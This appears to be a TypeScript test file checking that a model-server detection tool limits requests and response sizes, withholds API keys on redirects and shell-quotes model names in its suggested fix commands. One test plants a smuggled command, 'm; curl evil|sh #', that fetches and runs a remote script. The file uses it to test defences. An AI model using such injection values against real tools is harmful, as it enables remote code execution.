/** What listens at the address of a model server is asked little, and heard little. */
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { checkModels } from '../../src/actions/doctor/models.ts';
import { defaultConfig } from '../../src/config/load.ts';
import { probeOllama, probeOpenAi } from '../../src/init/detect.ts';
import { worded } from '../../src/say/say.ts';
import { until } from '../support/until.ts';

describe('a stranger at the address of a model server', () => {
  const asked: string[] = [];
  let answers: Record<string, unknown> = {};
  let url: string;
  const server = createServer((request, response) => {
    const path = request.url ?? '';
    asked.push(`${path} ${request.headers.authorization}`);
    if (path === '/v1/models' && answers['elsewhere'] !== undefined) {
      response.writeHead(302, { location: `${url}/other` }).end();
    } else response.end(JSON.stringify(answers[path] ?? {}));
  });

  before(async () => {
    server.listen(0, '127.0.0.1');
    await until(() => server.listening);
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(() => {
    server.close();
    server.closeAllConnections();
  });
  beforeEach(() => {
    asked.length = 0;
    answers = {};
  });

  const listing = (...names: string[]) => ({
    '/api/version': { version: '0.14.0' },
    '/api/tags': { models: names.map((name) => ({ name })) },
  });

  it('is asked of a hundred models what they can do, however many it lists', async () => {
    answers = listing(...Array.from({ length: 5000 }, (_, index) => `m${index}`));
    const found = await probeOllama(url);
    const shown = asked.filter((request) => request.startsWith('/api/show')).length;
    assert.deepEqual([found?.models.length, shown], [5000, 100]);
  });

  it('is not heard beyond some megabytes', async () => {
    answers = listing('m'.repeat(3_000_000));
    assert.equal((await probeOllama(url))?.models.length, 1);
    answers = listing('m'.repeat(5_000_000));
    assert.equal(await probeOllama(url), undefined);
  });

  it('gets no key sent on to where it points, and none shown that it repeats', async () => {
    answers = { '/v1/models': { data: [{ id: 'a key-4711 b' }, { id: 'good' }] } };
    assert.deepEqual((await probeOpenAi(`${url}/v1`, 'key-4711'))?.models, ['good']);
    assert.deepEqual((await probeOpenAi(`${url}/v1`))?.models, ['a key-4711 b', 'good'], 'which it says');
    answers = { elsewhere: true };
    assert.equal(await probeOpenAi(`${url}/v1`, 'key-4711'), undefined);
    assert.ok(!asked.some((request) => request.startsWith('/other')));
  });

  it('has no word of a name run that is copied from a cure', async () => {
    answers = listing('m; curl evil|sh #');
    const loaded = await defaultConfig({ home: '/nowhere', environment: {} });
    loaded.config.endpoints['e'] = { kind: 'ollama', url, max_concurrent: 1 };
    const kind = { kind: 'ollama', endpoint: 'e', num_ctx_max: 4096, keep_alive: '5m', pull: false } as const;
    loaded.config.runners['r'] = { ...kind, model: 'none; evil' };
    const checks = worded(await checkModels(loaded));
    const cure = checks.find(({ name }) => name === 'runner r')?.cure ?? '';
    assert.ok(cure.includes("ollama pull 'none; evil'"), cure);
    assert.ok(cure.includes("koubou config runners.r.model 'm; curl evil|sh #'"), cure);
  });
});
